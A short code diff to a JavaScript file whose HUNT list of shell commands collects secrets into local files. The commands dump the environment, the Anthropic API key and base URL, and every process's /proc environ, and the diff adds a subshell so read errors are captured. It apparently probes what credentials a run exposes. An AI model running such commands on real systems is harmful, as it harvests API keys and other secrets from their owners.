@@ -27,7 +27,8 @@ const HUNT = [
   'env > env.txt',
   'echo "$ANTHROPIC_API_KEY" > k.txt',
   'echo "$ANTHROPIC_BASE_URL" > base.txt',
-  "tr '\\0' '\\n' < /proc/1/environ > pid1-environ.txt 2>&1 || true",
+  // In a subshell, so that a refusal to read it (the run's user may not) lands in the file too.
+  "(tr '\\0' '\\n' < /proc/1/environ) > pid1-environ.txt 2>&1 || true",
   "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null; done > all-environ.txt",
   'cat /proc/net/unix > unix.txt 2>&1 || true',
 ].join('; ');
